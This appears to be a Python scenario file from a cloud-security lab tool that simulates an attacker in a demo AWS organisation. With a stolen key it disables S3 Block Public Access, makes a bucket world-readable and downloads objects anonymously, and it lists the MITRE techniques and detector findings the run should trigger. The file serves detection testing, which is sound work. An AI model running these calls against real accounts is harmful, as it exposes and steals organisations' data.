"""public-s3-exposure: the data lake made public, then read anonymously.

bob's 400-day-old key, used from ``ATTACKER_IP``, removes the data-lake bucket's Block Public Access
and the prod account's, writes a bucket policy granting ``Principal: "*"`` read and list, and an
anonymous client at ``ATTACKER_IP_2`` (unsigned requests, curl-like user agent) lists the bucket and
downloads its objects.
"""

from __future__ import annotations

import json

from cloudwarden.lab import demo_org as org
from cloudwarden.lab.scenarios.base import Scenario, ScenarioContext, tolerate

BUCKET = org.BUCKET_DATA
ANONYMOUS_USER_AGENT = "curl/8.5.0"
MAX_OBJECTS = 25


def public_policy(bucket: str) -> dict[str, object]:
    return {
        "Version": "2012-10-17",
        "Statement": [
            {"Sid": "PublicRead", "Effect": "Allow", "Principal": "*",
             "Action": ["s3:GetObject", "s3:ListBucket"],
             "Resource": [f"arn:aws:s3:::{bucket}", f"arn:aws:s3:::{bucket}/*"]},
        ],
    }


def run(ctx: ScenarioContext) -> None:
    prod = ctx.account("prod")
    attacker = ctx.actor(f"prod/{org.USER_BOB}", source_ip=org.ATTACKER_IP, user_agent=org.ATTACKER_USER_AGENT)
    s3 = attacker.client("s3")
    s3.list_buckets()
    tolerate(lambda: s3.get_public_access_block(Bucket=BUCKET), "NoSuchPublicAccessBlockConfiguration")
    tolerate(lambda: s3.get_bucket_policy(Bucket=BUCKET), "NoSuchBucketPolicy")

    s3.delete_public_access_block(Bucket=BUCKET)
    s3control = attacker.client("s3control")
    s3control.put_public_access_block(
        AccountId=prod,
        PublicAccessBlockConfiguration={"BlockPublicAcls": False, "IgnorePublicAcls": False,
                                        "BlockPublicPolicy": False, "RestrictPublicBuckets": False},
    )
    s3.put_bucket_policy(Bucket=BUCKET, Policy=json.dumps(public_policy(BUCKET)))

    anonymous = ctx.anonymous(source_ip=org.ATTACKER_IP_2, user_agent=ANONYMOUS_USER_AGENT)
    public = anonymous.client("s3")
    listing = public.list_objects_v2(Bucket=BUCKET, MaxKeys=1000)
    for item in listing.get("Contents", [])[:MAX_OBJECTS]:
        public.get_object(Bucket=BUCKET, Key=item["Key"])["Body"].read()


SCENARIO = Scenario(
    name="public-s3-exposure",
    title="Block Public Access removed and a bucket opened to the world",
    description=(
        f"prod/{org.USER_BOB}'s key from {org.ATTACKER_IP}: ListBuckets, GetPublicAccessBlock and GetBucketPolicy on "
        f"{BUCKET}, DeletePublicAccessBlock on it, PutPublicAccessBlock (all four settings off) for the prod "
        "account through s3control, PutBucketPolicy granting Principal \"*\" s3:GetObject and s3:ListBucket. "
        f"Then unsigned requests from {org.ATTACKER_IP_2}: ListObjectsV2 and GetObject for up to "
        f"{MAX_OBJECTS} objects."
    ),
    mitre=("T1098", "T1562.001", "T1530", "T1537"),
    finding_types=(
        "Policy:S3/BucketBlockPublicAccessDisabled",
        "Policy:S3/AccountBlockPublicAccessDisabled",
        "Policy:S3/BucketAnonymousAccessGranted",
        "Policy:S3/BucketPublicAccessGranted",
        "Exfiltration:S3/AnomalousBehavior",
        "UnauthorizedAccess:S3/MaliciousIPCaller.Custom",
    ),
    run=run,
)
